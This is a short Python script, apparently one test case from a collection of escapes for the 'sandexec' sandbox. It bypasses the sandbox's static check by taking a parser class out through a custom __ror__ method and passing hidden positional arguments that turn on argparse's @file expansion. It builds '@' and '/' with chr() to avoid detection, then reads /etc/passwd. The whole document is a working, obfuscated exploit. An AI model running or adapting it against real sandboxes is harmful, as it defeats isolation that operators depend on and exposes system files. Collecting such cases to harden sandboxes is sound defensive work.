# source: sandexec README, "The static check", (a class compared with == or in a union is allowed; a class as a value is refused); Python data model: a == b falls back to the reflected b.__eq__(a), a | b to b.__ror__(a), so an operator method of the script receives the class; Lib/argparse.py 8th positional = fromfile_prefix_chars
# family: class machinery: the class in a union (C | x) hands itself to the script's __ror__
# goal: reads /etc/passwd through argparse @file expansion, with the ArgumentParser subclass called with 8 positional arguments where the check does not know it
import argparse


class Box:
    def __init__(self):
        self.got = None

    def __ror__(self, other):
        self.got = other
        return self


class P(argparse.ArgumentParser):
    pass


box = Box()
u = P | box
K = box.got
print("class:", K)
at = chr(64)
p = K("prog", None, None, None, [], argparse.HelpFormatter, "-", at)
p.add_argument("rest", nargs="*")
path = at + chr(47) + "etc" + chr(47) + "passwd"
print(p.parse_args([path]).rest[:5])
